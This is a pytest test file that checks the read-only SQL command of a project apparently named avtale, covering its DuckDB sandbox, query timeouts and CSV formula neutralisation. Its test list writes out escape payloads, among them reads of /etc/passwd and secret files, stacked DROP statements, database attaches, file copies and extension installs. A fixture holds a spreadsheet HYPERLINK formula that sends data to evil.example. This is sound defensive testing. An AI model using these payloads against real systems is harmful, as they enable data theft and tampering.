"""`avtale sql` is read-only in fact: escape attempts, run through the real command line
against a real published copy, each refused with one line and exit code 1, touching and
reading nothing else in the data folder; real queries still work.
"""

from __future__ import annotations

import hashlib
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest

from avtale.serving import connect, connect_serving, publish

SECRET = "TOPSECRET-a5f1"
PASSWORD_HASH = "argon2$SECRETHASH-77c0"
LEAKS = (SECRET, PASSWORD_HASH, "root:x:0:0")


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder as `avtale refresh` leaves it (warehouse, serving copy), with an
    operational database holding a password hash and a secret file beside them."""
    home = tmp_path_factory.mktemp("sandbox") / "home"
    home.mkdir()
    connect(home / "warehouse.duckdb").close()
    con = connect(home / "marts.duckdb")
    con.execute(
        "CREATE TABLE customers AS SELECT * FROM (VALUES "
        "('c1', 'Nordlys AS; Oslo', 1200.50, DATE '2025-01-31'), "
        "('c2', '=HYPERLINK(\"http://evil.example/?\"&A1)', -300.25, DATE '2025-02-28')"
        ") AS t(customer_id, name, mrr, month)"
    )
    con.close()
    publish(home / "marts.duckdb", home / "serving.duckdb")
    with sqlite3.connect(home / "avtale.db") as users:
        users.execute("CREATE TABLE users (username TEXT, password_hash TEXT)")
        users.execute("INSERT INTO users VALUES ('admin', ?)", [PASSWORD_HASH])
    users.close()
    (home / "secret.txt").write_text(f"{SECRET}\n", encoding="utf-8")
    (home / "data.csv").write_text(f"a,b\n1,{SECRET}\n", encoding="utf-8")
    return home


def snapshot(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` with the SHA-256 of its content."""
    return {
        str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def avtale_sql(home: Path, query: str, **env: str) -> subprocess.CompletedProcess[str]:
    environ = {k: v for k, v in os.environ.items() if not k.startswith("AVTALE_")}
    return subprocess.run(
        [sys.executable, "-m", "avtale.cli", "sql", query],
        env=environ | {"AVTALE_HOME": str(home)} | env,
        cwd=home,  # so relative paths point into the data folder
        capture_output=True,
        text=True,
        timeout=120,
    )


# (case id, SQL; {home} is the data folder)
ESCAPES = [
    ("two statements", "SELECT 1; SELECT 2"),
    ("stacked drop", "SELECT * FROM customers; DROP TABLE customers"),
    ("stacked after a ; in a string", "SELECT ';' AS x; COPY customers TO '{home}/x.csv'"),
    ("stacked after a comment", "SELECT 1 /* ; */ ; ATTACH '{home}/warehouse.duckdb' AS w"),
    ("stacked after a line comment", "SELECT 1 -- ;\n; INSTALL httpfs"),
    ("attach the warehouse", "ATTACH '{home}/warehouse.duckdb' AS w"),
    ("attach the warehouse read-only", "ATTACH '{home}/warehouse.duckdb' AS w (READ_ONLY)"),
    ("attach in memory", "ATTACH ':memory:' AS m"),
    ("detach", "DETACH serving"),
    ("use", "USE system"),
    ("copy over avtale.db", "COPY customers TO '{home}/avtale.db'"),
    ("copy a query out", "COPY (SELECT * FROM customers) TO '{home}/../escape.csv'"),
    ("copy from a file", "COPY customers FROM '{home}/data.csv'"),
    ("export database", "EXPORT DATABASE '{home}/export'"),
    ("read_csv /etc/passwd", "SELECT * FROM read_csv('/etc/passwd')"),
    ("read_csv relative", "SELECT * FROM read_csv('data.csv')"),
    ("read_text", "SELECT * FROM read_text('{home}/secret.txt')"),
    ("read_blob avtale.db", "SELECT * FROM read_blob('{home}/avtale.db')"),
    ("read_json", "SELECT * FROM read_json('{home}/secret.txt')"),
    ("read_parquet", "SELECT * FROM read_parquet('{home}/x.parquet')"),
    ("read_duckdb warehouse", "SELECT * FROM read_duckdb('{home}/warehouse.duckdb')"),
    ("sniff_csv", "SELECT * FROM sniff_csv('/etc/passwd')"),
    ("glob", "SELECT * FROM glob('{home}/*')"),
    ("glob relative", "SELECT * FROM glob('*')"),
    ("replacement scan", "FROM '{home}/data.csv'"),
    ("replacement scan relative", "SELECT * FROM 'secret.txt'"),
    ("through query()", "SELECT * FROM query('SELECT * FROM read_text(''{home}/secret.txt'')')"),
    (
        "up from the temp folder",
        "SELECT * FROM read_text(current_setting('temp_directory') || '/../secret.txt')",
    ),  # noqa: E501
    ("http", "SELECT * FROM read_csv('https://example.com/x.csv')"),
    ("getenv", "SELECT getenv('HOME')"),
    ("set external access", "SET enable_external_access = true"),
    ("set autoinstall", "SET autoinstall_known_extensions = true"),
    ("reset lock", "RESET lock_configuration"),
    ("set threads", "SET threads = 1"),
    ("set variable", "SET VARIABLE x = 1"),
    ("pragma", "PRAGMA database_list"),
    ("pragma setting", "PRAGMA enable_profiling"),
    ("install", "INSTALL httpfs"),
    ("load", "LOAD httpfs"),
    ("update extensions", "UPDATE EXTENSIONS"),
    ("call", "CALL duckdb_settings()"),
    ("checkpoint", "CHECKPOINT"),
    ("force checkpoint", "FORCE CHECKPOINT"),
    ("vacuum", "VACUUM"),
    ("begin", "BEGIN TRANSACTION"),
    ("prepare", "PREPARE p AS SELECT 1"),
    ("explain", "EXPLAIN SELECT 1"),
    ("pivot creating a type", "PIVOT customers ON customer_id USING sum(mrr)"),
    ("temp table", "CREATE TEMP TABLE t AS SELECT 1"),
    ("temp macro", "CREATE TEMP MACRO m() AS 1"),
    ("table", "CREATE TABLE t (x INTEGER)"),
    ("secret", "CREATE SECRET (TYPE s3, KEY_ID 'k', SECRET 's')"),
    ("insert", "INSERT INTO customers VALUES ('c3', 'x', 1, DATE '2025-01-31')"),
    (
        "with ... insert",
        "WITH a AS (SELECT * FROM customers) INSERT INTO customers SELECT * FROM a",
    ),
    ("update", "UPDATE customers SET mrr = 0"),
    ("delete", "DELETE FROM customers"),
    ("drop", "DROP TABLE customers"),
    ("missing parameter", "SELECT * FROM customers WHERE customer_id = $1"),
    ("empty", ""),
    ("only a comment", "-- SELECT 1"),
    ("only a semicolon", ";"),
]


@pytest.fixture
def untouched(home: Path):  # type: ignore[no-untyped-def]
    """Asserts after the test that no file in the data folder or beside it changed,
    appeared or left."""
    before = snapshot(home.parent)
    yield
    assert snapshot(home.parent) == before


@pytest.mark.parametrize(("case", "query"), ESCAPES, ids=[case for case, _ in ESCAPES])
def test_an_escape_is_refused_with_one_line(
    home: Path, untouched: None, case: str, query: str
) -> None:
    done = avtale_sql(home, query.format(home=home))
    assert done.returncode == 1, done
    assert done.stdout == ""
    (line,) = done.stderr.splitlines()
    assert line.startswith("error: ")
    assert not any(leak in done.stderr for leak in LEAKS)


@pytest.mark.parametrize(
    "query",
    [
        "SELECT count(*) FROM range(1000000000000)",
        "SELECT count(*) FROM range(100000) a, range(100000) b, range(100000) c",
    ],
    ids=["long scan", "cross join"],
)
def test_a_long_query_is_cancelled_after_the_timeout(
    home: Path, untouched: None, query: str
) -> None:
    done = avtale_sql(home, query, AVTALE_SQL_TIMEOUT_S="1")
    assert done.returncode == 1
    assert done.stderr == "error: query cancelled after 1 s (AVTALE_SQL_TIMEOUT_S)\n"


@pytest.mark.parametrize("value", ["soon", "0", "-5", "nan", "inf"])
def test_an_invalid_timeout_is_a_clear_error(home: Path, value: str) -> None:
    done = avtale_sql(home, "SELECT 1", AVTALE_SQL_TIMEOUT_S=value)
    assert done.returncode == 2
    assert done.stderr == (
        f"error: AVTALE_SQL_TIMEOUT_S must be a positive number of seconds, not '{value}'\n"
    )


def test_nothing_published_is_exit_code_2(tmp_path: Path) -> None:
    done = avtale_sql(tmp_path, "SELECT 1")
    assert done.returncode == 2
    (line,) = done.stderr.splitlines()
    assert line.startswith("error: Nothing published yet") and "avtale refresh" in line


# (SQL, the CSV it prints)
QUERIES = [
    (
        "SELECT customer_id, name FROM customers WHERE name LIKE '%;%'",
        "customer_id,name\nc1,Nordlys AS; Oslo\n",
    ),
    ("SELECT 'a;b' AS x;", "x\na;b\n"),
    ("SELECT 1 AS n;;", "n\n1\n"),
    ("/* a ; in a comment */ SELECT 2 AS n -- and after;", "n\n2\n"),
    (
        "WITH t AS (SELECT 'x; DROP TABLE customers' AS v) SELECT v FROM t",
        "v\nx; DROP TABLE customers\n",
    ),
    ("FROM customers SELECT count(*) AS n", "n\n2\n"),
    ("SELECT count(*) AS n FROM query_table('customers')", "n\n2\n"),
    (
        "SELECT name, value FROM duckdb_settings() "
        "WHERE name IN ('enable_external_access', 'lock_configuration') ORDER BY name",
        "name,value\nenable_external_access,false\nlock_configuration,true\n",
    ),
    ("SELECT column_name FROM (DESCRIBE customers) LIMIT 1", "column_name\ncustomer_id\n"),
    (
        "PIVOT (SELECT customer_id, mrr FROM customers) ON customer_id IN ('c1', 'c2') "
        "USING sum(mrr)",
        "c1,c2\n1200.50,-300.25\n",
    ),
    # Text a spreadsheet would run is neutralised; numbers and dates stay values.
    (
        "SELECT name, mrr, month FROM customers ORDER BY customer_id DESC LIMIT 1",
        'name,mrr,month\n"\'=HYPERLINK(""http://evil.example/?""&A1)",-300.25,2025-02-28\n',
    ),
    ("SELECT '-1' AS t, -1 AS n, '@x' AS \"+h\"", "t,n,'+h\n'-1,-1,'@x\n"),
]


@pytest.mark.parametrize(("query", "csv"), QUERIES)
def test_a_read_only_query_runs(home: Path, untouched: None, query: str, csv: str) -> None:
    done = avtale_sql(home, query)
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout == csv


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * FROM read_text('{home}/secret.txt')",
        "ATTACH '{home}/warehouse.duckdb' AS w",
        "COPY customers TO '{home}/out.csv'",
        "SET enable_external_access = true",
        "INSTALL httpfs",
    ],
)
def test_the_apps_connections_are_sandboxed_too(home: Path, untouched: None, query: str) -> None:
    """The app and the reminder job read through connect_serving: same sandbox, even for
    SQL that does not go through `avtale sql`'s statement check."""
    with connect_serving(home / "serving.duckdb") as con, pytest.raises(duckdb.Error):
        con.execute(query.format(home=home))
